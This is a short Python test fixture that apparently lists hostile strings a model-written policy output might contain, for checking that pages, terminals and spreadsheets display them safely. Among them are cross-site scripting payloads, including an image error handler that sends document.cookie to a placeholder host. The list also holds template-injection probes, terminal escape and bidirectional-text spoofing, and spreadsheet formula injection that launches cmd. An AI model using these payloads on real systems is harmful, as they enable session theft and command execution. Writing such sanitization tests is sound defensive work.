"""What a policy may write that pages, terminals and spreadsheets must not believe."""

from __future__ import annotations

HOSTILE = {
    "script": "<script>document.title='owned'</script><answer>4</answer>",
    "handler": "<img src=x onerror=\"fetch('http://192.0.2.1/?c='+document.cookie)\">",
    "svg": '<svg onload=alert(1)><a href="javascript:alert(1)">answer</a></svg>',
    "entity": "&lt;b&gt;&amp;#60;script&amp;#62; </textarea></template></script>",
    "markdown": "![x](http://192.0.2.1/x.png) [click](javascript:alert(1)) <b>**42**</b>",
    "template": "{{7*7}} ${7*7} <%= 7*7 %> {% raw %} :param %s {0}",
    "ansi": "\x1b[2J\x1b[31m\x1b]0;owned\x07\x1b]8;;http://192.0.2.1\x07link\x1b]8;;\x07 42",
    "bidi": "\u202e24 si rewsna eht\u202c \u2066\u200f42\u2069 \u200b\ufeff",
    "formula": "=cmd|' /C calc'!A0",
    "formula_plus": '+HYPERLINK("http://192.0.2.1","42")',
    "formula_tab": "\t@SUM(1+1)*cmd|'/C calc'!A0",
    "nul": "before\x00after\x0b\x0c\x7f\x85\u2028\u2029 42",
    "surrogate": "half a letter \ud83d and another \udc00 42",
    "combining": "4" + "\u0301\u0489" * 2000 + "2",
    "newlines": "\r\n\r\n\n" * 500 + "42",
    "megabyte": "A" * 500_000 + "<b>" + "9" * 500_000,
}
"""By what is wrong with it."""
ONCE = frozenset({"megabyte", "combining", "newlines"})
"""Large: three of each are enough for any store."""
